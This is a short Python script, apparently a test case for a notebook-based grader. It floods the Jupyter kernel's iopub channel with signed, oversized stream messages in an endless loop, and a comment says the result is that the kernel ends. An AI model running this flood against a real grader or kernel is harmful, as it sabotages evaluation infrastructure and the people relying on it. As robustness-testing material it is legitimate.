# Sends the grader large messages that belong to nobody's request, as fast as it can.
# shows: ended the kernel
import json

session, iopub = get_ipython().kernel.session, get_ipython().kernel.iopub_socket
header = json.dumps(
    {
        "msg_id": "0",
        "msg_type": "stream",
        "session": "0",
        "username": "",
        "version": "5.3",
        "date": "2024-01-01T00:00:00Z",
    }
).encode()
parts = [header, header, b"{}", json.dumps({"name": "stdout", "text": [[]] * 1_000_000}).encode()]
message = [b"x", b"<IDS|MSG>", session.sign(parts), *parts]
while True:
    iopub.send_multipart(message)
